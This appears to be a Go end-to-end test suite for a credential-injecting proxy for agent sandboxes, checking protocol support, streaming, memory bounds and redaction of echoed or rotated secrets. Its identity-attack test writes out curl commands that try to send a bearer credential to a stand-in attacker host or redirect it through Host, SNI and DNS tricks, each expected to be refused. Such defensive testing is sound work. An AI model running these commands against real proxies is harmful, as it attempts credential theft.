//go:build linux

package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/keygate/keygate/pkg/placeholder"
	"github.com/keygate/keygate/pkg/testworld"
)

// binaryReflectLen is the length of /_kg/ws-reflect's binary message when
// the Authorization value it repeats is authLen bytes long.
func binaryReflectLen(authLen int) int {
	n := 0
	for i := range testworld.ReflectBinaryCopies {
		n += 4000 + i*131 + authLen
	}
	return n
}

// TestProxyProtocols covers what agents' HTTP clients use: HTTP/1.1 and
// HTTP/2 towards the sandbox, server-sent events delivered as they come,
// WebSocket with the credential in the handshake, a 512 MiB upload with
// the agent's memory bounded, and redaction of an echoed secret.
func TestProxyProtocols(t *testing.T) {
	w, a, key := credentialedAgent(t)
	api := "https://" + w.APIHost()
	auth := `-H "Authorization: Bearer $API_KEY"`
	run := func(t *testing.T, script string) string {
		t.Helper()
		out, errOut, code := a.run([]string{"--vault", "v"}, script)
		if code != 0 {
			t.Fatalf("sandbox: exit %d\nstdout %s\nstderr %s", code, out, errOut)
		}
		if strings.Contains(out+errOut, key) {
			t.Fatalf("the sandbox saw the secret: %s", redact(out+errOut, key))
		}
		return out
	}
	lastAuth := func(t *testing.T) string {
		t.Helper()
		reqs := w.Requests(w.APIHost())
		if len(reqs) == 0 {
			t.Fatal("API received nothing")
		}
		return reqs[len(reqs)-1].Header.Get("Authorization")
	}

	for _, proto := range []struct{ flag, want string }{{"--http1.1", "1.1"}, {"--http2", "2"}} {
		t.Run("curl "+proto.flag, func(t *testing.T) {
			out := run(t, `curl -sS -m 10 -o /dev/null -w '%{http_version} %{http_code}' `+proto.flag+` `+api+`/proto `+auth)
			if out != proto.want+" 200" {
				t.Fatalf("curl %s: %q, want %q", proto.flag, out, proto.want+" 200")
			}
			if got := lastAuth(t); got != "Bearer "+key {
				t.Fatalf("API got %q", redact(got, key))
			}
			// The world's API offers HTTP/2, so keygate uses it whatever
			// the client spoke.
			reqs := w.Requests(w.APIHost())
			if got := reqs[len(reqs)-1].Proto; got != "HTTP/2.0" {
				t.Fatalf("keygate reached the API over %s, want HTTP/2.0 (it offers h2)", got)
			}
		})
	}

	// Two requests written back to back on one connection before any
	// answer: each is answered, in order, and each carried the secret.
	t.Run("pipelined HTTP/1.1 requests", func(t *testing.T) {
		h := w.APIHost()
		before := len(w.Requests(h))
		req := `GET /%s HTTP/1.1\r\nHost: ` + h + `\r\nAuthorization: Bearer %%s\r\n%s\r\n`
		out := run(t, `(printf '`+fmt.Sprintf(req, "one", "")+fmt.Sprintf(req, "two", `Connection: close\r\n`)+
			`' "$API_KEY" "$API_KEY"; sleep 1) | openssl s_client -quiet -connect `+h+`:443 -servername `+h+` -alpn http/1.1 2>/dev/null`)
		one, two := strings.Index(out, `"path":"/one"`), strings.Index(out, `"path":"/two"`)
		if strings.Count(out, "HTTP/1.1 200 OK") != 2 || one < 0 || two < one {
			t.Fatalf("pipelined answers:\n%s", out)
		}
		reqs := w.Requests(h)[before:]
		if len(reqs) != 2 || reqs[0].Path != "/one" || reqs[1].Path != "/two" {
			t.Fatalf("API got %d requests", len(reqs))
		}
		for _, r := range reqs {
			if got := r.Header.Get("Authorization"); got != "Bearer "+key {
				t.Fatalf("API got %q on %s", redact(got, key), r.Path)
			}
		}
	})

	t.Run("server-sent events arrive one by one", func(t *testing.T) {
		out := run(t, `curl -sSN -m 20 `+api+`/_kg/sse?n=3\&ms=700 `+auth+
			` | while IFS= read -r line; do case "$line" in data:*) echo "$(date +%s%3N) $line";; esac; done`)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) != 3 {
			t.Fatalf("events: %q\nagent log:\n%s", out, lastLines(a.log.String(), 15))
		}
		var at []int64
		for _, l := range lines {
			ms, _ := strconv.ParseInt(strings.Fields(l)[0], 10, 64)
			at = append(at, ms)
		}
		// Sent 700 ms apart: buffered delivery would make them arrive
		// together at the end.
		if at[1]-at[0] < 500 || at[2]-at[1] < 500 {
			t.Fatalf("events arrived at %v: not streamed", at)
		}
	})

	t.Run("websocket with the credential in the handshake", func(t *testing.T) {
		out := run(t, filepath.Join(binDir, "wsclient")+` -url wss://`+w.APIHost()+`/_kg/ws -bearer-env API_KEY hello again`)
		if out != "echo: hello\necho: again\n" {
			t.Fatalf("websocket replies: %q", out)
		}
		if got := lastAuth(t); got != "Bearer "+key {
			t.Fatalf("handshake Authorization %q", redact(got, key))
		}
	})

	// An upstream that hands the handshake's credential back inside
	// WebSocket frames (whole, split across fragments, in a ping, in a
	// large binary frame, as the close reason) reaches the client with
	// the placeholder in its place.
	t.Run("websocket frames echoing the credential are redacted", func(t *testing.T) {
		out := run(t, `echo "PH=$API_KEY"; `+filepath.Join(binDir, "wsclient")+
			` -url wss://`+w.APIHost()+`/_kg/ws-reflect -bearer-env API_KEY -read-all`)
		if got := lastAuth(t); got != "Bearer "+key {
			t.Fatalf("handshake Authorization %q", redact(got, key))
		}
		ph, rest, _ := strings.Cut(strings.TrimPrefix(out, "PH="), "\n")
		if !strings.HasPrefix(ph, "kgph_") {
			t.Fatalf("no placeholder in the sandbox: %q", out)
		}
		want := fmt.Sprintf("text: one: Bearer %[1]s\nping: Bearer %[1]s\ntext: two: Bearer %[1]s end\n"+
			"binary: %[2]d bytes, %[3]d copies of the bearer value\nclose: 1000 Bearer %[1]s\n",
			ph, binaryReflectLen(len("Bearer "+ph)), testworld.ReflectBinaryCopies)
		if rest != want {
			t.Fatalf("client read:\n%s\nwant:\n%s", rest, want)
		}
	})

	// Basic credentials echoed back hold the secret base64-encoded after
	// "user:", at whichever alignment the user name's length gives.
	t.Run("echoed Basic credentials are redacted at every alignment", func(t *testing.T) {
		for _, user := range []string{"u", "us", "use"} {
			out := run(t, `curl -sS -m 10 -D - -o /dev/null -u "`+user+`:$API_KEY" `+api+`/_kg/echo`)
			if got, want := lastAuth(t), "Basic "+base64.StdEncoding.EncodeToString([]byte(user+":"+key)); got != want {
				t.Fatalf("user %q: API got %q", user, redact(got, key))
			}
			const name = "x-echo-authorization: basic "
			echoed := ""
			for _, line := range strings.Split(out, "\n") {
				if len(line) > len(name) && strings.EqualFold(line[:len(name)], name) {
					echoed = strings.TrimSpace(line[len(name):])
				}
			}
			if echoed == "" {
				t.Fatalf("no echoed header: %s", out)
			}
			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding} {
				if dec, err := enc.DecodeString(echoed); err == nil && strings.Contains(string(dec), key) {
					t.Fatalf("user %q: the echoed header decodes to the secret", user)
				}
			}
			if !strings.Contains(echoed, "kgph_") {
				t.Fatalf("user %q: echoed %q shows no placeholder", user, echoed)
			}
		}
	})

	// A 103 Early Hints is relayed as it arrives, ahead of the response:
	// its headers are redacted too, and the status recorded is the 200.
	for _, proto := range []string{"--http1.1", "--http2"} {
		t.Run("early hints echoing the credential "+proto, func(t *testing.T) {
			out := run(t, `curl -sS -m 10 -D - `+proto+` `+api+`/_kg/early-hints `+auth)
			if !strings.Contains(out, " 103") || !strings.Contains(out, "after the hints") {
				t.Fatalf("no 103 then answer:\n%s", out)
			}
			if !strings.Contains(strings.ToLower(out), "auth=bearer kgph_") {
				t.Fatalf("the 103's Link header was not redacted to the placeholder:\n%s", out)
			}
		})
	}

	// An upstream that compresses unasked (br here) could hide the secret
	// from the redactor: such a response is refused.
	t.Run("a body encoded unasked is refused", func(t *testing.T) {
		out := run(t, `curl -sS -m 10 -w '\n%{http_code}' `+api+`/_kg/encoded?enc=br `+auth)
		if !strings.HasSuffix(out, "\n502") || !strings.Contains(out, `br`) {
			t.Fatalf("encoded echo: %s", out)
		}
		if got := lastAuth(t); got != "Bearer "+key {
			t.Fatalf("API got %q", redact(got, key))
		}
	})

	t.Run("echoed secret is redacted", func(t *testing.T) {
		out := run(t, `curl -sS -m 10 -D - `+api+`/_kg/echo `+auth)
		if !strings.Contains(out, "kgph_") {
			t.Fatalf("echo response shows no placeholder: %s", out)
		}
		if !strings.Contains(strings.ToLower(out), "x-echo-authorization: bearer kgph_") {
			t.Fatalf("echoed header not redacted to the placeholder: %s", out)
		}
		if got := lastAuth(t); got != "Bearer "+key {
			t.Fatalf("API got %q", redact(got, key))
		}
	})

	for _, proto := range []struct{ flag, status string }{{"--http1.1", "HTTP/1.1 100"}, {"--http2", "HTTP/2 100"}} {
		t.Run("Expect: 100-continue "+proto.flag, func(t *testing.T) {
			const size = 3 << 20
			out := run(t, fmt.Sprintf(`head -c %d /dev/zero | curl -sS -v -m 20 %s -H "Expect: 100-continue" --data-binary @- %s/_kg/upload %s 2>&1`,
				size, proto.flag, api, auth))
			if !strings.Contains(out, "< "+proto.status) {
				t.Fatalf("curl saw no %q before sending the body:\n%s", proto.status, lastLines(out, 20))
			}
			if !strings.Contains(out, fmt.Sprintf(`{"bytes":%d}`, size)) {
				t.Fatalf("upload did not arrive whole:\n%s", lastLines(out, 20))
			}
		})
		t.Run("HEAD keeps the length "+proto.flag, func(t *testing.T) {
			out := run(t, `curl -sS -m 10 -I `+proto.flag+` '`+api+`/_kg/download?bytes=12345' `+auth)
			if !strings.Contains(strings.ToLower(out), "content-length: 12345") {
				t.Fatalf("HEAD answer with the secret sent:\n%s", out)
			}
		})
		t.Run("trailers "+proto.flag, func(t *testing.T) {
			out := run(t, `curl -sS -m 10 -D - `+proto.flag+` `+api+`/_kg/trailer `+auth)
			if !strings.Contains(out, "body before the trailer") || !strings.Contains(strings.ToLower(out), "x-checksum: done") {
				t.Fatalf("response with a trailer:\n%s", out)
			}
		})
	}

	t.Run("512 MiB upload with bounded agent memory", func(t *testing.T) {
		const size = 512 << 20
		out := run(t, fmt.Sprintf(`head -c %d /dev/zero | curl -sS -m 120 -T - %s/_kg/upload %s`, size, api, auth))
		var got struct{ Bytes int64 }
		if err := json.Unmarshal([]byte(out), &got); err != nil || got.Bytes != size {
			t.Fatalf("upload: %q (%v), want %d bytes received", out, err, size)
		}
		hwm := peakRSS(t, a.cmd.Process.Pid)
		t.Logf("keygated peak RSS after a %d MiB upload: %d MiB", size>>20, hwm>>20)
		if hwm > 192<<20 {
			t.Fatalf("keygated peak RSS %d MiB: the upload was buffered", hwm>>20)
		}
	})

	// A download on a request that carried the secret goes through the
	// streaming redactor; it must not be held in memory either.
	t.Run("512 MiB download with bounded agent memory", func(t *testing.T) {
		const size = 512 << 20
		out := run(t, fmt.Sprintf(`curl -sS -m 120 -o /dev/null -w '%%{size_download}' '%s/_kg/download?bytes=%d' %s`, api, size, auth))
		if out != strconv.Itoa(size) {
			t.Fatalf("download: %q bytes, want %d", out, size)
		}
		hwm := peakRSS(t, a.cmd.Process.Pid)
		t.Logf("keygated peak RSS after a %d MiB download: %d MiB", size>>20, hwm>>20)
		if hwm > 192<<20 {
			t.Fatalf("keygated peak RSS %d MiB: the download was buffered", hwm>>20)
		}
	})
}

// peakRSS returns a process's high-water resident set size in bytes.
func peakRSS(t *testing.T, pid int) int64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			return kb << 10
		}
	}
	t.Fatal("no VmHWM")
	return 0
}

// TestProxyIdentity runs the identity attacks: each is refused with a
// reason, and neither the attacker nor the API receives anything from it.
func TestProxyIdentity(t *testing.T) {
	w, a, key := credentialedAgent(t)

	// Another sandbox's placeholder, taken from a sandbox that stays up.
	other := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v"))
	foreign, _, _ := a.kg("", "sandbox", "exec", other, "--", "sh", "-c", `printf %s "$API_KEY"`)
	if !strings.HasPrefix(foreign, placeholder.Marker) {
		t.Fatalf("other sandbox's placeholder: %q", foreign)
	}
	unknown := placeholder.Marker + strings.Repeat("a", 32)
	api := "https://" + w.APIHost()

	tests := []struct {
		name   string
		script string
		reason string
	}{
		{"Host differs from SNI", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.AttackerHost() + `" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
		{"Host port differs", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.APIHost() + `:8443" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
		{"HTTP/2 authority differs from SNI", `curl -sS -m 10 --http2 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.AttackerHost() + `" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
		{"approved name at the attacker's address", `curl -sS -m 10 -w '\n%{http_code}' --resolve ` + w.APIHost() + `:443:` + w.Attacker.String() + ` ` + api + `/x -H "Authorization: Bearer $API_KEY"`, "destination_not_pinned"},
		{"another sandbox's placeholder", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Authorization: Bearer ` + foreign + `"`, "placeholder_of_other_sandbox"},
		{"unknown placeholder-shaped token", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Authorization: Bearer ` + unknown + `"`, "placeholder_unknown"},
		{"plaintext HTTP", `curl -sS -m 10 -w '\n%{http_code}' http://` + w.APIHost() + `/x -H "Authorization: Bearer $API_KEY"`, "plaintext_http"},
		{"placeholder to an allowed, unapproved host", `curl -sS -m 10 -w '\n%{http_code}' https://` + w.AttackerHost() + `/x -H "Authorization: Bearer $API_KEY"`, "placeholder_unapproved_host"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			beforeAPI, beforeEvil := len(w.Requests(w.APIHost())), len(w.Requests(w.AttackerHost()))
			out, errOut, code := a.run([]string{"--vault", "v", "--allow", w.AttackerHost()}, tt.script)
			if code != 0 || !strings.HasSuffix(out, "\n403") || !strings.Contains(out, tt.reason) {
				t.Fatalf("exit %d, output %q, stderr %q; want 403 %s", code, out, errOut, tt.reason)
			}
			if n := len(w.Requests(w.APIHost())) - beforeAPI; n != 0 {
				t.Errorf("the API received %d requests", n)
			}
			if n := len(w.Requests(w.AttackerHost())) - beforeEvil; n != 0 {
				t.Errorf("the attacker received %d requests", n)
			}
		})
	}
	recs := a.auditRecords(t, "--kind", "request.deny")
	for _, tt := range tests {
		if countKind(recs, "request.deny", func(r auditRecord) bool { return r.Reason == tt.reason }) == 0 {
			t.Errorf("no audit record for %s", tt.reason)
		}
	}
	a.stop()
	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
		t.Fatal("the secret leaked")
	}
}

// TestSplice checks that a sandbox without credentials reaches an allowed
// host end to end: its TLS session is with the real server (it verifies
// the world's own certificate, which keygate could not forge), so
// certificate-pinning clients work.
func TestSplice(t *testing.T) {
	w := world(t)
	a := startAgent(t, w)
	ca := filepath.Join(binDir, "world-ca.pem")
	if err := os.WriteFile(ca, w.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	script := `curl -sS -m 10 -o /dev/null -w '%{http_code}' --cacert ` + ca + ` https://` + w.OtherHost() + `/spliced`
	out, errOut, code := a.run([]string{"--allow", w.OtherHost()}, script)
	if code != 0 || out != "200" {
		t.Fatalf("spliced curl: exit %d, %q, %s", code, out, errOut)
	}
	reqs := w.Requests(w.OtherHost())
	if len(reqs) == 0 || reqs[len(reqs)-1].Path != "/spliced" {
		t.Fatal("other host did not receive the request")
	}
	// Not allowed: refused at the TLS stage even when spliceable.
	out, _, _ = a.run(nil, `curl -sS -m 10 -w '\n%{http_code}' --cacert `+ca+` https://`+w.OtherHost()+`/no 2>&1; true`)
	if strings.HasSuffix(out, "200") {
		t.Fatalf("unlisted host reached: %q", out)
	}
	if !strings.Contains(a.log.String(), "request spliced") {
		t.Error("no decision record for the spliced connection")
	}
}

// TestPassthrough: a sandbox holding placeholders has its TLS terminated
// everywhere, except on the domains the operator lists with --passthrough:
// there its session is with the real server (it verifies the world's own
// certificate, which keygate could not forge), for clients that pin
// certificates. A passthrough domain that a credential is approved for is
// terminated still, and gets the secret.
func TestPassthrough(t *testing.T) {
	w, a, key := credentialedAgent(t)
	ca := filepath.Join(binDir, "world-ca-passthrough.pem")
	if err := os.WriteFile(ca, w.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	other, api := w.OtherHost(), w.APIHost()
	args := []string{"--vault", "v", "--passthrough", other, "--passthrough", api}
	out, errOut, code := a.run(args, `curl -sS -m 10 -o /dev/null -w '%{http_code} ' --cacert `+ca+` https://`+other+
		`/passed -H "Authorization: Bearer $API_KEY"; `+
		`curl -sS -m 10 -o /dev/null -w '%{http_code}' https://`+api+`/terminated -H "Authorization: Bearer $API_KEY"`)
	if code != 0 || out != "200 200" || strings.Contains(out+errOut, key) {
		t.Fatalf("exit %d: %q %s", code, redact(out, key), redact(errOut, key))
	}
	reqs := w.Requests(other)
	if len(reqs) == 0 || reqs[len(reqs)-1].Path != "/passed" {
		t.Fatal("the passthrough host did not receive the request")
	}
	// Relayed unseen: the placeholder went as it was, never the secret.
	if got := reqs[len(reqs)-1].Header.Get("Authorization"); !strings.HasPrefix(got, "Bearer kgph_") {
		t.Fatalf("the passthrough host got %q", redact(got, key))
	}
	reqs = w.Requests(api)
	if len(reqs) == 0 || reqs[len(reqs)-1].Header.Get("Authorization") != "Bearer "+key {
		t.Fatal("the approved host, listed as passthrough too, did not get the secret")
	}
	// Without --passthrough the same client fails: keygate terminates and
	// presents its own certificate, which the pinned CA does not sign.
	out, _, _ = a.run([]string{"--vault", "v", "--allow", other},
		`curl -sS -m 10 -o /dev/null -w '%{http_code}' --cacert `+ca+` https://`+other+`/pinned 2>&1; true`)
	if strings.HasSuffix(out, "200") {
		t.Fatalf("a pinning client accepted keygate's certificate: %q", out)
	}
	var info struct {
		ID          string
		Passthrough []string
	}
	out = a.mustKG("", "sandbox", "create", "--vault", "v", "--passthrough", other, "--json")
	if err := json.Unmarshal([]byte(out), &info); err != nil || !slices.Equal(info.Passthrough, []string{other}) {
		t.Fatalf("sandbox info: %v: %s", err, out)
	}
	a.mustKG("", "sandbox", "rm", info.ID)
}

// After a rotation, an upstream that saw the old key can still quote it: a
// debug endpoint replaying the last request it got. The sandbox must see
// its placeholder there too, while the new key is what is sent.
func TestRedactsRotatedSecret(t *testing.T) {
	w, a, oldKey := credentialedAgent(t)
	newKey := secret(t)
	api := "https://" + w.APIHost()
	both := func(s string) string { return redact(redact(s, oldKey), newKey) }

	out, errOut, code := a.run([]string{"--vault", "v"},
		`curl -sS -m 10 -o /dev/null `+api+`/before -H "Authorization: Bearer $API_KEY"`)
	if code != 0 {
		t.Fatalf("before the rotation: exit %d: %s %s", code, both(out), both(errOut))
	}
	a.mustKG(newKey+"\n", "cred", "rotate", "v", "api")
	// The replay shows the request before it, sent with the old key.
	out, errOut, code = a.run([]string{"--vault", "v"}, `echo "PH=$API_KEY"; `+
		`curl -sS -m 10 `+api+`/_kg/replay -H "Authorization: Bearer $API_KEY"`)
	if code != 0 {
		t.Fatalf("after the rotation: exit %d: %s %s", code, both(out), both(errOut))
	}
	if strings.Contains(out+errOut, oldKey) || strings.Contains(out+errOut, newKey) {
		t.Fatalf("the sandbox saw a secret: %s %s", both(out), both(errOut))
	}
	ph, rest, _ := strings.Cut(strings.TrimPrefix(out, "PH="), "\n")
	if want := "previous Authorization: Bearer " + ph + "\n"; rest != want {
		t.Fatalf("replayed %q, want %q", both(rest), want)
	}
	// The old key is only searched for, never sent: the upstream got the
	// new one with the replay request.
	reqs := w.Requests(w.APIHost())
	if len(reqs) == 0 {
		t.Fatal("the upstream recorded no request")
	}
	if got := reqs[len(reqs)-1].Header.Get("Authorization"); got != "Bearer "+newKey {
		t.Fatalf("the replay request carried %q, want the rotated secret", both(got))
	}
}

// TestRedactsEveryApprovedSecret: an upstream that shows what it received
// earlier (here /_kg/replay, the previous request's Authorization) cannot
// hand the sandbox a secret of another of its credentials approved there,
// nor one sent on an earlier request, whether or not the current request
// carries a placeholder.
func TestRedactsEveryApprovedSecret(t *testing.T) {
	w := world(t)
	a := startAgent(t, w)
	key, key2 := secret(t), secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
	a.mustKG(key2+"\n", "cred", "add", "v", "api2", "--env", "API_KEY2", "--domain", w.APIHost())
	api := "https://" + w.APIHost()
	for _, tt := range []struct{ name, second string }{
		{"with another credential", `-H "Authorization: Bearer $API_KEY"`},
		{"with no credential", ``},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out, errOut, code := a.run([]string{"--vault", "v"}, `echo "PH2=$API_KEY2"; `+
				`curl -sS -m 10 -o /dev/null `+api+`/first -H "Authorization: Bearer $API_KEY2" && `+
				`curl -sS -m 10 `+api+`/_kg/replay `+tt.second)
			if code != 0 {
				t.Fatalf("exit %d: %s %s", code, redact(out, key2), redact(errOut, key2))
			}
			if strings.Contains(out+errOut, key2) || strings.Contains(out+errOut, key) {
				t.Fatalf("the sandbox saw a secret: %s", redact(redact(out, key), key2))
			}
			ph2, rest, _ := strings.Cut(strings.TrimPrefix(out, "PH2="), "\n")
			if want := "previous Authorization: Bearer " + ph2 + "\n"; rest != want {
				t.Fatalf("replayed %q, want %q", rest, want)
			}
		})
	}
}
